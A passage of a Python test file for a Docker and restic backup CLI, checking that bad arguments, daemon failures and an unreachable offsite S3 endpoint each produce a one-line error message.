    ids=[" ".join(args[:2]) + f" {args[-1]}" for args, _, _ in CLI_CASES],
)
def test_a_bad_argument_ends_in_one_line(args, code, line, tmp_path):
    result = _invoke(*(arg.format(tmp=tmp_path) for arg in args))
    assert (result.exit_code, result.stderr) == (code, line.format(tmp=tmp_path) + "\n")


def test_an_unreachable_daemon_ends_in_one_line():
    result = _invoke(
        "backup", "list", "--stack", "dev", env={"DOCKER_HOST": "unix:///nonexistent.sock"}
    )
    assert result.exit_code == 2
    assert result.stderr.startswith("napdms-ops: stack dev: unix:///nonexistent.sock: ")
    assert result.stderr.count("\n") == 1


class _FailingContainer:
    def exec_run(self, *args, **kwargs):
        from docker.errors import APIError

        raise APIError("409 Client Error: container is restarting")


def test_a_daemon_failing_mid_command_ends_in_one_line(monkeypatch):
    agent = backups.Agent("dev", client=None, container=_FailingContainer())
    monkeypatch.setattr(backups, "find_agent", lambda stack: agent)
    result = _invoke("backup", "run", "--stack", "dev")
    assert (result.exit_code, result.stderr) == (
        2,
        "napdms-ops backup run: stack dev: its Docker daemon failed the request (409 Client "
        "Error: container is restarting); check the daemon and the agent container, then run the "
        "command again\n",
    )


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class _LocalAgentContainer:
    """The agent's `exec_run` as a local process on `plan`: the real agent code, no Docker."""

    def __init__(self, plan: Path):
        self.plan = plan

    def exec_run(self, command, demux=True):
        command = [str(self.plan) if part == PLAN_FILE else part for part in command]
        done = subprocess.run(
            [sys.executable, *command[1:]], cwd=ROOT, capture_output=True, timeout=120
        )

        class Result:
            exit_code = done.returncode
            output = (done.stdout, done.stderr)

        return Result()


@pytest.mark.skipif(
    subprocess.run(["sh", "-c", "command -v restic"], capture_output=True).returncode != 0,
    reason="restic not installed",
)
def test_backup_init_with_the_offsite_s3_down_ends_in_one_line(tmp_path, monkeypatch):
    port = _closed_port()
    endpoint = f"http://127.0.0.1:{port}"
    for name, text in (("password", "pw\n"), ("access", "AKIAEXAMPLE\n"), ("secret", "k3y\n")):
        (tmp_path / name).write_text(text)
    plan = BackupPlan(
        stack="dev",
        host_tag="napdms-dev",
        repository=Repository(url=str(tmp_path / "repo"), password_file=str(tmp_path / "password")),
        offsite=Offsite(
            endpoint=endpoint,
            bucket="napdms-offsite",
            repository=Repository(
                url=f"s3:{endpoint}/napdms-offsite/napdms-dev",
                password_file=str(tmp_path / "password"),
                s3_access_key_file=str(tmp_path / "access"),
                s3_secret_key_file=str(tmp_path / "secret"),
            ),
        ),
        sources=[FilesSource(service="gitea", paths=[str(tmp_path / "source")])],
        state_dir=str(tmp_path / "state"),
    )
    (tmp_path / "plan.json").write_text(plan.model_dump_json())
    agent = backups.Agent(
        "dev", client=None, container=_LocalAgentContainer(tmp_path / "plan.json")
    )
    monkeypatch.setattr(backups, "find_agent", lambda stack: agent)
    started = time.monotonic()
    result = _invoke("backup", "init", "--stack", "dev")
    assert time.monotonic() - started < 90
    assert (result.exit_code, result.stderr) == (
        1,
        f"napdms-ops backup init: offsite bucket napdms-offsite at {endpoint}: HeadBucket failed: "
        f'Could not connect to the endpoint URL: "{endpoint}/napdms-offsite"; check '
        "backup.offsite.endpoint (scheme, host, port) and that this host reaches it (DNS, "
        "firewall, proxy)\n",
    )
